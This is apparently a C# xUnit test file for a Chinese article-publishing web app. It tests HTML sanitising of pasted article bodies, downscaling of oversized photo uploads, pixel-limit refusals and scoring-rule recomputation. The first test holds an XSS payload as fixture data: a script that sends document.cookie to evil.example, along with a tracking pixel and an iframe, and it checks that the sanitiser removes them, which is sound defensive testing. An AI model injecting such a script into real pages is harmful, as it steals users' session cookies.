using System.Net;
using Guangong.Web.Features.Publicity;
using Guangong.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using SkiaSharp;

namespace Guangong.Web.Tests.Publicity;

/// <summary>What a correspondent pastes and uploads through the article form; and the rule table's recompute.</summary>
public sealed class ArticleContentTests(SqliteAppFixture fixture) : IClassFixture<SqliteAppFixture>
{
    private GuangongApp App => fixture.App;

    [Fact]
    public async Task Script_and_tracking_pixels_in_a_pasted_body_are_removed_and_the_words_kept()
    {
        var t = await PublicityTown.CreateAsync(App);
        var browser = await App.SignedInAsync(t.Reporter, PublicityTown.Password);
        const string pasted = "<p style=\"color:red\">3月7日，镇关工委召开部署会。</p><script>document.location='https://evil.example/'+document.cookie</script>"
            + "<img src=\"https://tracker.example/p.gif?u=1\" width=\"1\" height=\"1\"><div>会议要求&nbsp;按月报送。<br>第二行</div><iframe src=\"https://ads.example\"></iframe>";
        var saved = await PostArticleAsync(browser, t, "粘贴测试", pasted, null);
        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        var body = await App.WithDbAsync(db => db.Articles.Where(a => a.Title == "粘贴测试" && a.UnitId == t.Village.Id).Select(a => a.Body).SingleAsync());
        Assert.Equal("3月7日，镇关工委召开部署会。\n\n会议要求 按月报送。\n\n第二行", body);
        Assert.DoesNotContain("script", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("tracker", body, StringComparison.Ordinal);
        Assert.DoesNotContain("evil", body, StringComparison.Ordinal);

        var onlyScript = await PostArticleAsync(browser, t, "只有脚本", "<script>alert(1)</script><img src=x width=1 height=1>", null);
        Assert.Contains("粘贴的内容里没有文字", WebUtility.HtmlDecode(await onlyScript.Content.ReadAsStringAsync()));
    }

    [Fact]
    public async Task A_30_MB_photo_is_scaled_down_on_upload()
    {
        var t = await PublicityTown.CreateAsync(App);
        var browser = await App.SignedInAsync(t.Reporter, PublicityTown.Password);
        var photo = NoisyPng(3000, 2600);
        Assert.True(photo.Length > 30_000_000, $"the test photo has {photo.Length} bytes");
        var saved = await PostArticleAsync(browser, t, "大图测试", "活动现场。\n\n[图1]\n\n孩子们认真听讲。", photo);
        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        var image = await App.WithDbAsync(db => db.ArticleImages.Where(i => db.Articles.Any(a => a.Id == i.ArticleId && a.Title == "大图测试" && a.UnitId == t.Village.Id)).SingleAsync());
        Assert.Equal((ArticleImages.MaxSide, 1386), (image.Width, image.Height));
        Assert.True(image.SizeBytes < 3_000_000, $"stored {image.SizeBytes} bytes");
        var served = await browser.GetAsync($"/publicity/images/{image.Id}");
        Assert.Equal("image/jpeg", served.Content.Headers.ContentType!.MediaType);
        Assert.Equal(image.SizeBytes, (await served.Content.ReadAsByteArrayAsync()).Length);
        var page = await browser.GetStringAsync(saved.Headers.Location!.ToString());
        Assert.Matches("<p>活动现场。</p>\\s*<figure class=\"article-figure\"><img src=\"/publicity/images/" + image.Id, page);
    }

    [Fact]
    public async Task A_picture_too_large_to_decode_is_refused_before_its_pixels_are_read()
    {
        Assert.Null(ArticleImages.ScaleDown(Security.Images.PngHeader(20000, 20000)));

        // A 48 MP PNG decodes only whole: refused naming its limit, not as "not a picture".
        var (stored, error) = await new ArticleImages(Path.Combine(Path.GetTempPath(), $"article-images-{Guid.NewGuid():N}"))
            .StoreAsync("扫描件.png", Security.Images.PngHeader(8000, 6000), CancellationToken.None);
        Assert.Null(stored);
        Assert.Contains("“扫描件.png”无法作为图片打开：它有4800万像素，png、无损 webp 和渐进式 jpg 图片最多4000万像素。", error);
    }

    [Fact]
    public async Task Changing_the_rule_recomputes_the_year_and_shows_whose_total_changed()
    {
        var t = await PublicityTown.CreateAsync(App);
        var id = (await t.ArticleAsync(App, written: "2023-03-02", kind: "Feature")).GetProperty("id").GetInt64();
        var api = await App.ApiClientAsync(t.Reporter, PublicityTown.Password);
        await System.Net.Http.Json.HttpClientJsonExtensions.PostAsJsonAsync(api, $"/api/v1/articles/{id}/adoptions", new { outletId = t.TownOutlet.ToString(), date = "2023-03-03", link = "https://mp.weixin.qq.com/s/x" });
        await System.Net.Http.Json.HttpClientJsonExtensions.PostAsJsonAsync(api, $"/api/v1/articles/{id}/adoptions", new { outletId = t.CityOutlet.ToString(), date = "2023-03-09", pageIssue = "第5版" });

        var officer = await App.SignedInAsync(t.Officer, PublicityTown.Password);
        var fields = RuleFields(ScoringRule.DefaultTable);
        var first = WebUtility.HtmlDecode(await (await officer.PostFormAsync("/publicity/rules?year=2023", "rule-save", fields)).Content.ReadAsStringAsync());
        Assert.Contains("规则已保存", first);

        // 通讯/文章 at 市 is 10 by default, counted once at the highest level; counting every level adds the 镇 2.
        fields.Remove("Rule.HighestLevelOnce");
        fields["Rule.Version"] = (await App.WithDbAsync(db => db.ScoringRules.Where(r => r.UnitId == t.Town.Id && r.Year == 2023).Select(r => r.Version).SingleAsync())).ToString(System.Globalization.CultureInfo.InvariantCulture);
        var changed = WebUtility.HtmlDecode(await (await officer.PostFormAsync("/publicity/rules?year=2023", "rule-save", fields)).Content.ReadAsStringAsync());
        Assert.Contains("村通讯员：10 → 12", changed);
        var report = WebUtility.HtmlDecode(await officer.GetStringAsync("/publicity/scores?year=2023&month=3"));
        Assert.Matches(@"<td[^>]*>村通讯员</td><td[^>]*>[^<]+</td><td[^>]*>1</td><td[^>]*>1</td><td[^>]*>12</td>", report);

        fields["Rule.Version"] = (await App.WithDbAsync(db => db.ScoringRules.Where(r => r.UnitId == t.Town.Id && r.Year == 2023).Select(r => r.Version).SingleAsync())).ToString(System.Globalization.CultureInfo.InvariantCulture);
        fields["Rule.Points[7]"] = "abc"; // 通讯/文章 (row 1) at 市 (column 2)
        var bad = WebUtility.HtmlDecode(await (await officer.PostFormAsync("/publicity/rules?year=2023", "rule-save", fields)).Content.ReadAsStringAsync());
        Assert.Contains("通讯/文章在市级媒体的分值应为0到1000之间的数", bad);
        Assert.Equal(10m, await App.WithDbAsync(db => db.ScoringRules.Where(r => r.UnitId == t.Town.Id && r.Year == 2023).Select(r => r.PointsTable).SingleAsync().ContinueWith(x => new ScoringRule { PointsTable = x.Result }.PointsFor(ArticleKind.Feature, OutletLevel.City))));
    }

    private static Dictionary<string, string> RuleFields(string table)
    {
        var rule = new ScoringRule { PointsTable = table };
        var fields = new Dictionary<string, string> { ["Rule.HighestLevelOnce"] = "true", ["Rule.Share"] = "FirstAuthorFull", ["Rule.VillageQuota"] = "2", ["Rule.OtherQuota"] = "1", ["Rule.InstructionBonus"] = "5", ["Rule.AwardBonus"] = "10", ["Rule.Version"] = "0" };
        var cells = rule.Table();
        for (var k = 0; k < 4; k++)
        {
            for (var l = 0; l < 5; l++)
            {
                fields[$"Rule.Points[{(k * 5) + l}]"] = cells[k][l].ToString(System.Globalization.CultureInfo.InvariantCulture);
            }
        }

        return fields;
    }

    private static async Task<HttpResponseMessage> PostArticleAsync(HttpClient browser, PublicityTown t, string title, string body, byte[]? photo)
    {
        var page = await browser.GetStringAsync("/publicity/articles/new");
        using var form = new MultipartFormDataContent
        {
            { new StringContent("article-create"), "_handler" },
            { new StringContent(HttpSession.AntiforgeryToken(page)), "__RequestVerificationToken" },
            { new StringContent(title), "Input.Title" },
            { new StringContent("Brief"), "Input.Kind" },
            { new StringContent(body), "Input.Body" },
            { new StringContent("2023-05-10"), "Input.WrittenOn" },
            { new StringContent(t.Village.Id.ToString()), "Input.UnitId" },
            { new StringContent(t.VillageAuthorId.ToString()), "Input.FirstAuthorId" },
        };
        if (photo is not null)
        {
            form.Add(new ByteArrayContent(photo), "images", "现场.png");
        }

        return await browser.PostAsync("/publicity/articles/new", form);
    }

    /// <summary>A PNG of random pixels: it does not compress, so its size is about width × height × 4.</summary>
    private static byte[] NoisyPng(int width, int height)
    {
        using var bitmap = new SKBitmap(width, height, SKColorType.Rgba8888, SKAlphaType.Unpremul);
        Random.Shared.NextBytes(bitmap.GetPixelSpan());
        using var image = SKImage.FromBitmap(bitmap);
        using var data = image.Encode(SKEncodedImageFormat.Png, 0);
        return data.ToArray();
    }
}
